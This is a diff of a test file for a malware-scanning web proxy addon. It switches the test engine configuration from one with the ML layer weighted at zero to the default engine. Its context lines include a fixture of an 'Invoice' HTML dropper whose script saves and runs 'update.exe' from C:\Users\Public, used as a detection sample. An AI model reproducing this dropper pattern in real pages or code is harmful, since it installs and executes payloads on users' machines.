@@ -17,7 +17,7 @@ from mitmproxy import exceptions, http
 from mitmproxy.test import taddons, tflow, tutils
 
 from malwaresnipper.addon.gateway import HEADER, Gateway
-from malwaresnipper.engine.config import EngineConfig, Layers
+from malwaresnipper.engine.config import EngineConfig
 from malwaresnipper.server.scanner import ScanPool
 
 DROPPER = b"""<html><head><title>Invoice</title></head><body><script>
@@ -29,10 +29,8 @@ s.SaveToFile("C:\\\\Users\\\\Public\\\\update.exe", 2); sh.Run("C:\\\\Users\\\\P
 DROPPER_JS = DROPPER.split(b"<script>")[1].split(b"</script>")[0]
 BENIGN = b"<!DOCTYPE html><html><head><title>Recipes</title></head><body><p>Bake for 40 minutes.</p></body></html>"
 
-#: The ML layer runs but weighs nothing: these tests check the pool/hooks, and must not depend on
-#: how the models of the day score test URLs. The malicious samples are caught by the rule layers.
-ENGINE_CONFIG = EngineConfig(layers=Layers(weights={
-    "url": 1.0, "reputation": 1.5, "javascript": 1.5, "dom": 1.0, "signatures": 1.5, "ml": 0.0}))
+#: The default engine, ML layer included: what a user runs.
+ENGINE_CONFIG = EngineConfig()
 
 
 class SharedPool(ScanPool):
